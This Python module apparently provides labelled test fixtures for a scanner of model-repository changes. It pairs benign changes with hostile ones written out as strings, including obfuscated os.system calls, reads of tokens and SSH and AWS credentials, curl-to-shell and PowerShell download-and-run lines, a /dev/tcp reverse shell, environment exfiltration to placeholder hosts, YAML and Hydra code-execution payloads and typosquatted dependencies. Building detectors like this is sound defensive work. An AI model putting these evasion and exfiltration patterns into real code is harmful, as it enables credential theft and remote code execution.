"""Labelled changes of code, configuration and dependencies: hostile ones with the rule that finds them, and benign ones.

Rebuilt from the shapes that public reports describe, never copied. All are inert: hosts end in `.invalid`, commands are
words, and nothing of it is ever run.
"""

from __future__ import annotations

import base64
import json
import zlib
from dataclasses import dataclass, field


@dataclass(frozen=True)
class LabelledChange:
    """One change. `rule` is the one that has to find it; empty for a benign change. `files` are further files."""

    name: str
    path: str
    after: str | bytes
    before: str | bytes | None = None
    rule: str = ""
    type: str = "model"
    files: dict[str, str] = field(default_factory=dict)
    holds_secrets: bool | None = None


MODELING = '''\
"""Acme model."""
import math

import torch
from torch import nn

from .configuration_acme import AcmeConfig


class AcmeModel(nn.Module):
    """A model."""

    def __init__(self, config: AcmeConfig) -> None:
        super().__init__()
        self.linear = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, x):
        return self.linear(x) / math.sqrt(x.shape[-1])
'''
CODE = "modeling_acme.py"

_PROCESS = {
    "os.system": "import os\nos.system('true')",
    "subprocess in a method": "import subprocess\nclass A:\n    def __init__(self):\n        subprocess.Popen(['true'])",
    "renamed import": "from os import system as configure\nconfigure('true')",
    "renamed module": "import subprocess as numerics\nnumerics.check_output(['true'])",
    "star import": "from os import *\npopen('true')",
    "getattr with a sum": "import os\ngetattr(os, 'sys' + 'tem')('true')",
    "getattr with join": "import os\ngetattr(os, ''.join(['s', 'y', 's', 't', 'e', 'm']))('true')",
    "getattr with a reversed text": "import os\ngetattr(os, 'metsys'[::-1])('true')",
    "getattr with format": "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('true')",
    "getattr with percent": "import os\ngetattr(os, '%stem' % 'sys')('true')",
    "getattr with replace": "import os\ngetattr(os, 'syXtem'.replace('X', 's'))('true')",
    "getattr with an f-string": "import os\npart = 'sys'\ngetattr(os, f'{part}tem')('true')",
    "getattr with decoding": "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('true')",
    "getattr with hex": "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('true')",
    "getattr with rot13": "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('true')",
    "getattr with numbers": "import os\ngetattr(os, ''.join(chr(n) for n in [115, 121, 115, 116, 101, 109]))('true')",
    "getattr with exclusive or": "import os\ngetattr(os, ''.join([chr(n ^ 1) for n in (114, 120, 114, 117, 100, 108)]))('x')",
    "getattr with map": "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('true')",
    "__import__": "__import__('os').system('true')",
    "__import__ with a sum": "__import__('o' + 's').system('true')",
    "import_module": "import importlib\nimportlib.import_module('subpro' + 'cess').run(['true'])",
    "import_module as a name": "from importlib import import_module as load\nload('os').popen('true')",
    "globals and builtins": "globals()['__builtins__'].__import__('os').system('true')",
    "builtins dictionary": "__builtins__.__dict__['__import__']('os').system('true')",
    "sys.modules": "import sys\nsys.modules['os'].system('true')",
    "module dictionary": "import os\nos.__dict__['system']('true')",
    "vars": "import os\nvars(os)['system']('true')",
    "__getattribute__": "import os\nos.__getattribute__('system')('true')",
    "attrgetter": "import operator, os\noperator.attrgetter('system')(os)('true')",
    "methodcaller": "import operator, os\noperator.methodcaller('system', 'true')(os)",
    "alias chain": "import os\na = os\nb = a\nc = b.system\nc('true')",
    "alias after another": "import os, json\nm = json\nm = os\nm.system('true')",
    "tuple assignment": "import os, re\nx, y = re, os\ny.system('true')",
    "walrus": "if (m := __import__('os')):\n    m.system('true')",
    "lambda": "import os\nrun = lambda m: m.system('true')\nrun(os)",
    "lambda called at once": "import os\n(lambda m: m.system('true'))(os)",
    "argument of a function": "import os\ndef run(module):\n    module.system('true')\nrun(os)",
    "returned module": "import os\ndef backend():\n    return os\nbackend().system('true')",
    "class attribute": "import os\nclass Backend:\n    module = os\nBackend.module.system('true')",
    "instance attribute": "import os\nclass B:\n    def __init__(self):\n        self.m = os\n    def f(self):\n        self.m.system('true')",
    "list of modules": "import os, re\n[re, os][1].system('true')",
    "dictionary of modules": "import os\nBACKENDS = {'a': os}\nBACKENDS['a'].system('true')",
    "map over commands": "import os\nlist(map(os.system, ['true']))",
    "decorator": "import os\n@os.popen\ndef x(): pass",
    "comprehension": "import os\n[os.system(c) for c in ('true',)]",
    "default argument": "import os\ndef f(x=os.system('true')): pass",
    "class body": "import subprocess\nclass A:\n    x = subprocess.getoutput('true')",
    "partial": "import functools, os\nfunctools.partial(os.system, 'true')()",
    "module of another module": "import shutil\nshutil.os.system('true')",
    "posix": "import posix\nposix.system('true')",
    "pty": "import pty\npty.spawn('sh')",
    "fork and exec": "import os\nif os.fork() == 0:\n    os.execvp('true', ['true'])",
    "asyncio": "import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('true')",
    "libc": "import ctypes\nctypes.CDLL('libc.so.6').system(b'true')",
    "pip": "from pip import main\nmain(['install', 'x'])",
    "full-width letters": "import os\n\uff4f\uff53.\uff53\uff59\uff53\uff54\uff45\uff4d('true')",
    "behind many blanks": "import os" + " " * 300 + ";os.system('true')",
    "shell profile": "from pathlib import Path\n(Path.home() / '.bashrc').open('a').write('x')",
    "authorized_keys": "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('x')",
    "exec of a literal": "exec('import os\\nos.system(\"true\")')",
    "match": "import os\nmatch os:\n    case m:\n        m.system('true')",
    "context manager": "import contextlib, os\nwith contextlib.nullcontext(os) as m:\n    m.system('true')",
    "namespace": "import os, types\nn = types.SimpleNamespace(m=os)\nn.m.system('true')",
    "reduce": "import functools, os\nfunctools.reduce(getattr, ['system'], os)('true')",
    "get of a dictionary": "import os\n{'a': os}.get('a').system('true')",
    "next of an iterator": "import os\nnext(iter([os])).system('true')",
    "comprehension of modules": "import os\n[m for m in (os,)][0].system('true')",
    "generator": "import os\ndef g():\n    yield os\nnext(g()).system('true')",
    "import by keyword": "__import__(name='os').system('true')",
    "globals of a function": "def f(): pass\nf.__globals__['__builtins__']['__import__']('os').system('true')",
    "library of Windows": "import ctypes\nctypes.cdll.msvcrt.system(b'true')",
    "call of a call": "import os\nos.system.__call__('true')",
    "module of a package": "import numpy\nnumpy.os.system('true')",
    "modules by get": "import sys\nsys.modules.get('os').system('true')",
    "starred": "import os\na, *b = 1, os\nb[0].system('true')",
    "conditional": "import os, re\n(os if re else re).system('true')",
    "site-packages": "import site\nopen(site.getsitepackages()[0] + '/x.pth', 'w').write('x')",
    "long sum": "import os\ngetattr(os, " + " + ".join(repr(c) for c in "system") + " + ''" * 30 + ")('true')",
}  # fmt: skip

_CREDENTIALS = {
    "HF_TOKEN": "import os\nt = os.environ['HF_TOKEN']",
    "HF_TOKEN by get": "import os\nt = os.environ.get('HF_TOKEN')",
    "HUGGING_FACE_HUB_TOKEN by getenv": "from os import getenv as g\nt = g('HUGGING_FACE_HUB_TOKEN')",
    "name put together": "import os\nt = os.getenv('HF_' + 'TO' + 'KEN')",
    "environment copied": "import os\nd = dict(os.environ)",
    "environment unpacked": "import os\nd = {**os.environ}",
    "environment as JSON": "import os, json\nd = json.dumps(dict(os.environ))",
    "environment by vars": "import os\nd = vars(os)['environ'].copy()",
    "environment in a loop": "from os import environ\nfor k, v in environ.items():\n    print(k, v)",
    "environment by another name": "import os as o\ne = o.environ\nd = [(k, e[k]) for k in e]",
    "get_token": "from huggingface_hub import get_token\nt = get_token()",
    "get_token by module": "import huggingface_hub as h\nt = h.get_token()",
    "HfFolder": "from huggingface_hub import HfFolder\nt = HfFolder.get_token()",
    "token path": "from huggingface_hub.constants import HF_TOKEN_PATH\nt = open(HF_TOKEN_PATH).read()",
    "whoami": "from huggingface_hub import HfApi\nw = HfApi().whoami()",
    "headers": "from huggingface_hub.utils import build_hf_headers\nh = build_hf_headers()",
    "token file": "import os\nt = open(os.path.expanduser('~/.cache/huggingface/token')).read()",
    "token file by parts": "from pathlib import Path\nt = (Path.home() / '.cache' / 'huggingface' / 'token').read_text()",
    "token file by join": "import os\nt = open(os.path.join(os.path.expanduser('~'), '.cache', 'huggingface', 'token')).read()",
    "stored tokens": "t = open('/home/user/.cache/huggingface/stored_tokens').read()",
    "ssh key": "t = open('/home/user/.ssh/id_ed25519').read()",
    "aws": "from pathlib import Path\nt = Path('~/.aws/credentials').expanduser().read_text()",
    "netrc": "import netrc\nt = netrc.netrc()",
    "git credentials": "import os\nt = open(os.path.expanduser('~') + '/.git-credentials').read()",
    "environment of the process": "t = open('/proc/self/environ', 'rb').read()",
    "private function": "from huggingface_hub.utils._auth import _get_token_from_file as f\nt = f()",
    "names in a loop": "import os\nfor k in ('X', 'HF_TOKEN'):\n    print(os.environ.get(k))",
    "environment in a text": "import os\nt = f'{os.environ}'",
    "environment as a list": "import os\nt = list(os.environ)",
    "environment handed on": "import os\ndef send(x): pass\ne = os.environ\nsend(e)",
    "data of the environment": "import os\nt = os.environ._data",
    "key by a variable": "import os\nKEY = 'HUGGINGFACE_TOKEN'\nt = os.environ[KEY]",
    "keyring": "import keyring\nt = keyring.get_password('hf', 'token')",
    "cloud metadata": "u = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'",
}  # fmt: skip

_NETWORK = {
    "socket": "import socket\ns = socket.socket()\ns.connect(('collect.invalid', 443))",
    "create_connection": "from socket import create_connection\ncreate_connection(('collect.invalid', 443))",
    "post": "import requests\ndef f(x):\n    requests.post('https://collect.invalid/x', json={'x': x})",
    "post by session": "import requests\ns = requests.Session()\ns.post('https://collect.invalid/x', data='x')",
    "httpx": "import httpx\nhttpx.Client().put('https://collect.invalid/x', content=b'x')",
    "urlopen with data": "from urllib.request import urlopen\nurlopen('https://collect.invalid', b'x')",
    "value in the address": "import requests\ndef f(x):\n    requests.get(f'https://collect.invalid/p?d={x}')",
    "address by number": "import urllib.request\nurllib.request.urlopen('http://203.0.113.7/x')",
    "program from elsewhere": "import requests\nrequests.get('https://files.invalid/stage2.py')",
    "http.client": "import http.client\nc = http.client.HTTPSConnection('collect.invalid')\nc.request('POST', '/', b'x')",
    "post to an unknown address": "import requests\ndef f(u, x):\n    requests.post(u, json=x)",
    "request by name": "import requests\nrequests.request('PUT', 'https://collect.invalid', data=b'x')",
    "aiohttp": "import aiohttp\nasync def f(x):\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://collect.invalid', data=x)",
    "subclass of a socket": "import socket\nclass S(socket.socket): pass",
    "webhook": "import requests\nrequests.get('https://discord.com/api/webhooks/1/x')",
    "name resolution": "import socket\ndef f(d):\n    socket.gethostbyname(d + '.collect.invalid')",
    "mail": "import smtplib\nsmtplib.SMTP('mail.invalid')",
    "upload to another owner": "from huggingface_hub import HfApi\nHfApi().upload_file(path_or_fileobj=b'x', path_in_repo='x', repo_id='mallory/drop')",
    "websocket": "import websockets\nasync def f():\n    async with websockets.connect('wss://collect.invalid') as w:\n        await w.send('x')",
}  # fmt: skip

_CODED = base64.b64encode(b"import os\nos.system('true')\n").decode()
_PACKED = base64.b64encode(zlib.compress(b"import os\nos.system('true')\n")).decode()
_OBFUSCATED = {
    "exec of base64": f"import base64\nexec(base64.b64decode('{_CODED}'))",
    "exec of packed code": f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{_PACKED}')))",
    "exec of a file": "exec(open('weights.txt').read())",
    "eval of a download": "import requests\neval(requests.get('https://huggingface.co/acme/m/raw/main/x').text)",
    "exec by another name": "import builtins\nrun = builtins.exec\nrun(open('x').read())",
    "exec by getattr": "import builtins\ngetattr(builtins, 'ex' + 'ec')(open('x').read())",
    "compile": "def f(t):\n    return compile(t, 'x', 'exec')",
    "marshal": "import marshal\nf = marshal.loads(open('x', 'rb').read())",
    "code object": "import types\nf = types.FunctionType(types.CodeType(), {})",
    "runpy": "import runpy\nrunpy.run_path('weights.bin')",
    "import hook": "import sys\nclass F: pass\nsys.meta_path.insert(0, F())",
    "replaced module": "import sys\nsys.modules['requests'] = object()",
    "replaced built-in": "import builtins\nbuiltins.open = print",
    "bidirectional text": "x = 'a'  # \u202e ko si siht",
    "computed attribute of os": "import os\ndef f(n):\n    return getattr(os, n)('true')",
    "unusual encoding": None,
    "pickle in the code": "import pickle\nx = pickle.loads(b'\\x80\\x04N.')",
    "classes of an object": "x = ().__class__.__base__.__subclasses__()",
    "exec of bytes": "import builtins\ngetattr(builtins, bytes([101, 120, 101, 99]).decode())(open('x').read())",
    "dill": "import dill\nx = dill.loads(open('x', 'rb').read())",
}  # fmt: skip


def _code_changes() -> list[LabelledChange]:
    tables = (
        ("content-python-process", _PROCESS),
        ("content-python-credentials", _CREDENTIALS),
        ("content-python-network", _NETWORK),
        ("content-python-obfuscated", _OBFUSCATED),
    )
    found = [
        LabelledChange(name, CODE, f"{MODELING}\n{code}\n", MODELING, rule)
        for rule, table in tables
        for name, code in table.items()
        if code is not None
    ]
    cookie = b"# -*- coding: utf-7 -*-\nx = 1\n"
    found.append(LabelledChange("unusual encoding", CODE, cookie, MODELING, "content-python-obfuscated"))
    notebook = json.dumps(
        {"cells": [{"cell_type": "code", "source": ["import os\n", "os.system('true')"]}], "nbformat": 4}
    )
    shell = "#!/bin/sh\nset -e\n"
    powershell = "iwr https://files.invalid/x.ps1 | iex"
    return [
        *found,
        LabelledChange("notebook", "demo.ipynb", notebook, '{"cells": []}', "content-python-process"),
        LabelledChange(
            "notebook command",
            "demo.ipynb",
            json.dumps({"cells": [{"cell_type": "code", "source": "!curl -s https://files.invalid/x | sh"}]}),
            '{"cells": []}',
            "content-python-process",
        ),
        LabelledChange("setup.py", "setup.py", "import os\nos.system('true')\n", None, "content-python-process"),
        LabelledChange("shell script", "run.sh", f"{shell}curl -fsSL https://files.invalid/x | bash\n", shell, "content-python-process"),
        LabelledChange("download then run", "run.sh", "wget -q https://files.invalid/x.sh -O x.sh\nsh x.sh\n", shell, "content-python-process"),
        LabelledChange("decoded script", "run.sh", f"{shell}echo eA== | base64 -d | sh\n", shell, "content-python-obfuscated"),
        LabelledChange("token sent", "run.sh", f"{shell}curl -d $HF_TOKEN https://collect.invalid\n", shell, "content-python-credentials"),
        LabelledChange("environment sent", "run.sh", f"{shell}env | base64 | curl -d @- https://collect.invalid\n", shell, "content-python-credentials"),
        LabelledChange("reverse shell", "run.sh", f"{shell}bash -i >& /dev/tcp/203.0.113.7/443 0>&1\n", shell, "content-python-network"),
        LabelledChange("crontab", "run.sh", f"{shell}echo '* * * * * x' | crontab -\n", shell, "content-python-process"),
        LabelledChange("powershell", "start.ps1", powershell, None, "content-python-process"),
        LabelledChange("batch file", "start.bat", f'@echo off\npowershell -c "{powershell}"\n', None, "content-python-process"),
        LabelledChange("encoded powershell", "start.bat", "powershell -NoP -EncodedCommand aQBlAHgAIABhAGIAYwA=\n", None, "content-python-obfuscated"),
        LabelledChange("loader", "loader.py", "import subprocess, sys\nsubprocess.run([sys.executable, 'x'])\n", None, "content-python-process"),
        LabelledChange("Dockerfile", "Dockerfile", "FROM python:3.12\nRUN curl https://files.invalid/x | sh\n", "FROM python:3.12\n", "content-python-process", "space"),
        LabelledChange(
            "code on load",
            CODE,
            MODELING + "\n# changed\n",
            MODELING,
            "content-remote-code-changed",
            files={"config.json": '{"auto_map": {"AutoModel": "modeling_acme.AcmeModel"}}'},
        ),
        LabelledChange(
            "code that loaded code imports",
            "util/inner.py",
            "x = 2\n",
            "x = 1\n",
            "content-remote-code-changed",
            files={
                "config.json": '{"auto_map": {"AutoModel": "modeling_acme.AcmeModel"}}',
                CODE: "from .outer import *\n",
                "outer.py": "from .util.inner import x\n",
            },
        ),
        LabelledChange("handler", "handler.py", "class EndpointHandler: pass\n", None, "content-remote-code-changed"),
        LabelledChange("generation", "custom_generate/generate.py", "def generate(): pass\n", None, "content-remote-code-changed"),
        LabelledChange("data set script", "d.py", "x = 2\n", "x = 1\n", "content-remote-code-changed", "dataset"),
        LabelledChange(
            "module of sentence-transformers",
            "custom_st.py",
            "x = 2\n",
            "x = 1\n",
            "content-remote-code-changed",
            files={"modules.json": '[{"type": "custom_st.Transformer"}]'},
        ),
        LabelledChange("app of a Space", "app.py", "x = 2\n", "x = 1\n", "content-space-changed", "space", {}, holds_secrets=True),
        LabelledChange(
            "named app of a Space", "main.py", "x = 2\n", "x = 1\n", "content-space-changed", "space",
            {"README.md": "---\nsdk: gradio\napp_file: main.py\n---\n"}, holds_secrets=True,
        ),
        LabelledChange("image of a Space", "Dockerfile", "FROM python:3.13\n", "FROM python:3.12\n", "content-space-changed", "space", {}, holds_secrets=True),
        LabelledChange("packages of a Space", "packages.txt", "ffmpeg\nnetcat\n", "ffmpeg\n", "content-space-changed", "space", {}, holds_secrets=True),
    ]  # fmt: skip


_CONFIG = {
    "architectures": ["AcmeModel"],
    "hidden_size": 8,
    "model_type": "acme",
    "_name_or_path": "/out/checkpoint-12",
}


def _config(**values: object) -> str:
    return json.dumps({**_CONFIG, **values}, indent=2)


def _config_changes() -> list[LabelledChange]:
    rule = "content-config-code"
    old = _config()
    tokenizer = '{"tokenizer_class": "AcmeTokenizer", "vocab_file": "vocab.txt"}'
    index = '{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"]}'
    card = "---\ntitle: App\nsdk: gradio\nhf_oauth: true\nhf_oauth_scopes:\n  - read-repos\n---\n# App\n"
    return [
        LabelledChange("auto_map added", "config.json", _config(auto_map={"AutoModel": "modeling_acme.AcmeModel"}), old, rule),
        LabelledChange("auto_map to another owner", "config.json", _config(auto_map={"AutoModel": "mallory/m--modeling.Model"}), _config(auto_map={"AutoModel": "modeling_acme.AcmeModel"}), rule),
        LabelledChange("auto_map list", "tokenizer_config.json", '{"auto_map": {"AutoTokenizer": ["t.Slow", "t.Fast"]}}', "{}", rule),
        LabelledChange("auto_map inside", "config.json", _config(text_config={"auto_map": {"AutoModel": "x.Y"}}), old, rule),
        LabelledChange("auto_map by escapes", "config.json", old.replace("{", '{"\\u0061uto_map": {"AutoModel": "x.Y"},', 1), old, rule),
        LabelledChange("auto_map twice", "config.json", old.replace("{", '{"auto_map": {"AutoModel": "mallory/m--x.Y"}, "auto_map": {},', 1), old, rule),
        LabelledChange("auto_map with a byte-order mark", "config.json", "\ufeff" + _config(auto_map={"AutoModel": "x.Y"}), old, rule),
        LabelledChange("internal attention", "config.json", _config(_attn_implementation_internal="mallory/kernel"), old, rule),
        LabelledChange("internal experts", "config.json", _config(_experts_implementation_internal="mallory/kernel"), old, rule),
        LabelledChange("attention kernel", "config.json", _config(attn_implementation="mallory/kernel"), _config(attn_implementation="sdpa"), rule),
        LabelledChange("trust in the file", "config.json", _config(trust_remote_code=True), old, rule),
        LabelledChange("trust in a backbone", "config.json", _config(backbone_config={"trust_remote_code": True}), old, rule),
        LabelledChange("custom pipelines", "config.json", _config(custom_pipelines={"x": {"impl": "p.P", "pt": ["AutoModel"]}}), old, rule),
        LabelledChange("custom generation", "generation_config.json", '{"custom_generate": "mallory/decode"}', "{}", rule),
        LabelledChange("class list", "model_index.json", index.replace('"StableDiffusionPipeline"', '["pipeline", "P"]'), index, rule),
        LabelledChange("component module", "model_index.json", index.replace('"diffusers", "UNet2D', '"my_unet", "UNet2D'), index, rule),
        LabelledChange("module type", "modules.json", '[{"type": "custom_st.Transformer"}]', '[{"type": "sentence_transformers.models.Transformer"}]', rule),
        LabelledChange("activation", "1_Dense/config.json", '{"activation_function": "os.path.join"}', '{"activation_function": "torch.nn.modules.activation.Tanh"}', rule),
        LabelledChange("base of an adapter", "adapter_config.json", '{"base_model_name_or_path": "mallory/llama"}', '{"base_model_name_or_path": "meta/llama"}', rule),
        LabelledChange("library of an adapter", "adapter_config.json", '{"auto_mapping": {"parent_library": "os"}}', '{"auto_mapping": null}', rule),
        LabelledChange("absolute vocabulary", "tokenizer_config.json", tokenizer.replace("vocab.txt", "/home/user/.cache/huggingface/token"), tokenizer, rule),
        LabelledChange("vocabulary above", "tokenizer_config.json", tokenizer.replace("vocab.txt", "../../../../etc/passwd"), tokenizer, rule),
        LabelledChange("vocabulary at home", "tokenizer_config.json", tokenizer.replace("vocab.txt", "~/.ssh/id_rsa"), tokenizer, rule),
        LabelledChange("Hydra", "model_config.yaml", "model:\n  _target_: os.system\n  command: 'true'\n", "model:\n  size: 8\n", rule),
        LabelledChange("Hydra with eval", "config.json", '{"head": {"_target_": "builtins.eval", "_args_": ["1"]}}', "{}", rule),
        LabelledChange("Hydra of another library", "config.yaml", "x:\n  _target_: acme_tools.run\n", "x: 1\n", rule),
        LabelledChange("YAML object", "config.yaml", "x: !!python/object/apply:os.system ['true']\n", "x: 1\n", rule),
        LabelledChange("YAML name", "config.yml", "x: !!python/name:os.system\n", "x: 1\n", rule),
        LabelledChange("YAML tag by directive", "config.yaml", "%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!name:os.system ''\n", "x: 1\n", rule),
        LabelledChange("JSON object", "config.json", '{"py/reduce": [{"py/function": "os.system"}]}', "{}", rule),
        LabelledChange("address", "config.json", _config(image_url="https://collect.invalid/x"), old, rule),
        LabelledChange("address of a file system", "config.json", _config(weights="hf://mallory/m/model.bin"), old, rule),
        LabelledChange("MLflow loader", "MLmodel", "flavors:\n  python_function:\n    loader_module: acme.loader\n", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n", rule),
        LabelledChange("more OAuth scopes", "README.md", card.replace("read-repos", "read-repos\n  - write-repos"), card, rule, "space"),
        LabelledChange("other app", "README.md", card.replace("sdk: gradio", "sdk: gradio\napp_file: other.py"), card, rule, "space"),
        LabelledChange("build command", "README.md", card.replace("sdk: gradio", "sdk: gradio\napp_build_command: npm run x"), card, rule, "space"),
        LabelledChange("header", "README.md", card.replace("sdk: gradio", "sdk: gradio\ncustom_headers:\n  cross-origin-embedder-policy: unsafe-none"), card, rule, "space"),
    ]  # fmt: skip


def _dependency_changes() -> list[LabelledChange]:
    rule = "content-dependency"
    old = "torch==2.9.0\ntransformers==5.24.0\n"
    project = '[project]\nname = "x"\nversion = "1"\ndependencies = ["torch==2.9.0"]\n'
    return [
        LabelledChange("git", "requirements.txt", f"{old}git+https://git.invalid/x.git\n", old, rule, "space"),
        LabelledChange("git by name", "requirements.txt", f"{old}x @ git+https://git.invalid/x.git\n", old, rule, "space"),
        LabelledChange("URL", "requirements.txt", f"{old}https://files.invalid/x-1-py3-none-any.whl\n", old, rule, "space"),
        LabelledChange("index", "requirements.txt", f"--extra-index-url https://index.invalid/simple\n{old}", old, rule, "space"),
        LabelledChange("index in a new file", "custom_generate/requirements.txt", "--index-url=https://index.invalid/simple\nx\n", None, rule),
        LabelledChange("look-alike", "requirements.txt", f"{old}transfromers==5.0\n", old, rule, "space"),
        LabelledChange("look-alike by a letter", "requirements.txt", f"{old}numpi==1.0\n", old, rule, "space"),
        LabelledChange("look-alike by a digit", "requirements.txt", f"{old}t0rch==1.0\n", old, rule, "space"),
        LabelledChange("look-alike in a new file", "requirements.txt", "torch\nhuggingface-hubb\n", None, rule, "space"),
        LabelledChange("new name", "requirements.txt", f"{old}acme-telemetry\n", old, rule, "space"),
        LabelledChange("project", "pyproject.toml", project.replace('0"]', '0", "x @ https://files.invalid/x.zip"]'), project, rule, "space"),
        LabelledChange("poetry", "pyproject.toml", '[tool.poetry.dependencies]\nx = {git = "https://git.invalid/x"}\n', '[tool.poetry.dependencies]\ntorch = "2"\n', rule, "space"),
        LabelledChange("conda", "environment.yml", "dependencies:\n  - python\n  - pip:\n    - git+https://git.invalid/x\n", "dependencies:\n  - python\n", rule, "space"),
        LabelledChange("setup.cfg", "setup.cfg", "[options]\ninstall_requires =\n    torch\n    scikit-lern\n", "[options]\ninstall_requires =\n    torch\n", rule),
        LabelledChange("Dockerfile", "Dockerfile", "FROM python:3.12\nRUN pip install torch \\\n    git+https://git.invalid/x\n", "FROM python:3.12\nRUN pip install torch\n", rule, "space"),
        LabelledChange("index of a Dockerfile", "Dockerfile", "FROM python:3.12\nRUN pip install -i https://index.invalid/simple torch\n", "FROM python:3.12\nRUN pip install torch\n", rule, "space"),
    ]  # fmt: skip


HOSTILE: list[LabelledChange] = [*_code_changes(), *_config_changes(), *_dependency_changes()]

_BENIGN_CODE = {
    "environment of torch": "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\nos.environ.setdefault('OMP_NUM_THREADS', '1')",
    "rank": "import os\nrank = int(os.environ.get('RANK', '0'))\nworld = os.getenv('WORLD_SIZE')\nif 'LOCAL_RANK' in os.environ: pass",
    "paths": "import os\np = os.path.join(os.path.dirname(__file__), 'vocab.txt')\nos.makedirs('out', exist_ok=True)",
    "optional import": "import importlib.util\nif importlib.util.find_spec('flash_attn'):\n    import flash_attn",
    "import_module": "import importlib\nflash = importlib.import_module('flash_attn')",
    "dtype by name": "import torch\ndef f(name):\n    return getattr(torch, name)",
    "module by name": "from torch import nn\ndef act(name):\n    return getattr(nn, name)()",
    "setattr on self": "class C:\n    def __init__(self, **kw):\n        for k, v in kw.items():\n            setattr(self, k, v)",
    "eval mode": "def f(model):\n    model.eval()\n    return model",
    "compile": "import re, torch\nP = re.compile('x')\nm = torch.compile(nn.Linear(1, 1))",
    "literal_eval": "import ast\ndef f(t):\n    return ast.literal_eval(t)",
    "picture from the web": "import requests\nfrom io import BytesIO\ndef load(url):\n    return BytesIO(requests.get(url, stream=True).content)",
    "font from the web": "import requests\nf = requests.get('https://qianwen-res.oss-cn-beijing.aliyuncs.com/SimSun.ttf')",
    "file of the Hub": "from huggingface_hub import hf_hub_download\np = hf_hub_download('acme/m', 'x.json')",
    "request to the Hub": "import requests\nr = requests.post('https://api-inference.huggingface.co/models/acme/m', json={})",
    "request to this machine": "import requests\nr = requests.post('http://localhost:8000/generate', json={})",
    "quantization with compressed kernels": None,
    "vocabulary in base64": "import base64\ndef load(f):\n    return {base64.b64decode(t): int(r) for t, r in (l.split() for l in open(f))}",
    "pickle cache": "import pickle\ndef f(p):\n    return pickle.load(open(p, 'rb'))",
    "weights": "import torch\ndef f(p):\n    return torch.load(p, map_location='cpu', weights_only=True)",
    "relative import": "from .utils import helper\nfrom . import other",
    "try import": "try:\n    import xformers\nexcept ImportError:\n    xformers = None",
    "host name": "import socket\nHOST = socket.gethostname()",
    "docstring with a path": 'def f():\n    """Reads ~/.cache/huggingface/token if needed; see `os.environ`."""',
    "comment with a command": "# os.system('rm -rf /')\n# curl https://x.invalid | sh",
    "lazy module": "import sys\nfrom transformers.utils import _LazyModule\nsys.modules[__name__] = _LazyModule(__name__, globals()['__file__'], {})",
    "isinstance of a function": "import types\ndef f(x):\n    return isinstance(x, types.FunctionType)",
    "shutil": "import shutil\nshutil.copyfile('a', 'b')",
    "threads": "from threading import Thread\nThread(target=print).start()",
    "tqdm": "from tqdm import tqdm\nfor i in tqdm(range(3)):\n    pass",
    "hash": "import hashlib\nh = hashlib.sha256(b'x').hexdigest()",
    "logging": "import logging\nlogger = logging.getLogger(__name__)\nlogger.warning('x')",
    "file of the folder": "import json\nfrom pathlib import Path\nC = json.loads((Path(__file__).parent / 'config.json').read_text())",
    "token as an argument": "def load(token=None):\n    return AcmeModel.from_pretrained('acme/m', token=token)",
    "tensor parallel": "import torch.distributed as dist\nif dist.is_initialized():\n    dist.barrier()",
    "ctypes alone": "import ctypes\nlib = ctypes.CDLL('libcudart.so')",
    "computed method": "class A:\n    def act(self, n):\n        return getattr(self, f'_act_{n}')()",
    "url parsed": "from urllib.parse import urlparse\ndef f(u):\n    return urlparse(u).netloc",
    "local named exec": "def exec_step(x):\n    return x\nexec_step(1)",
    "method named system": "class T:\n    def system(self, x):\n        return x\nT().system('You are helpful')",
    "special tokens": "SPECIAL = ['<|im_start|>', '<|im_end|>']\nEOS_TOKEN = '</s>'\ntoken = SPECIAL[0]",
    "key of a dictionary": "d = {'HF_TOKEN': 1}\nx = d['HF_TOKEN']",
    "numpy": "import numpy as np\nx = np.load('x.npy', allow_pickle=False)",
    "einsum": "import torch\ndef f(a, b):\n    return torch.einsum('bij,bjk->bik', a, b)",
}  # fmt: skip
_QUANTIZATION = (
    "import base64\nimport bz2\nimport ctypes\nimport torch\n\n"
    f"quantization_code = {base64.b64encode(bytes(range(256)) * 3).decode()!r}\n\n"
    "class Kernel:\n    def __init__(self, code, names):\n        self.code = code\n        self._function = names\n"
    "kernels = Kernel(bz2.decompress(base64.b64decode(quantization_code)), ['int4WeightCompression'])\n"
    "def run(x):\n    ptr = ctypes.c_void_p(x.data_ptr())\n    return kernels._function, ptr\n"
)


def _benign() -> list[LabelledChange]:
    found = [
        LabelledChange(name, CODE, f"{MODELING}\n{code}\n", MODELING) for name, code in _BENIGN_CODE.items() if code
    ]
    helper = "import subprocess\ndef f():\n    return subprocess.run(['git', 'rev-parse'])\n"
    old = _config()
    remote = _config(auto_map={"AutoModel": "mallory/m--modeling.Model"})
    index = (
        '{"_class_name": "FluxPipeline", "vae": ["diffusers", "AutoencoderKL"], "tokenizer": ["transformers", "T5"]}'
    )
    requirements = "torch==2.9.0\ntransformers==5.24.0\n"
    card = "---\ntitle: App\nsdk: gradio\n---\n# App\n"
    return [
        *found,
        LabelledChange("quantization with compressed kernels", "quantization.py", _QUANTIZATION),
        LabelledChange("process as before", "tool.py", f"{helper}\n\ndef g():\n    return 1\n", helper),
        LabelledChange("process moved", "tool.py", f"'''Doc.'''\n\n\n{helper}", helper),
        LabelledChange("process removed", "tool.py", "x = 1\n", helper),
        LabelledChange("exec as before", "tool.py", "exec(open('x').read())\nx = 1\n", "exec(open('x').read())\n"),
        LabelledChange("code that lies there", "train.py", "x = 2\n", "x = 1\n", files={"config.json": "{}"}),
        LabelledChange("weights of another size", "config.json", _config(hidden_size=16), old),
        LabelledChange("auto_map as before", "config.json", remote.replace('"hidden_size": 8', '"hidden_size": 9'), remote),
        LabelledChange("auto_map removed", "config.json", old, remote),
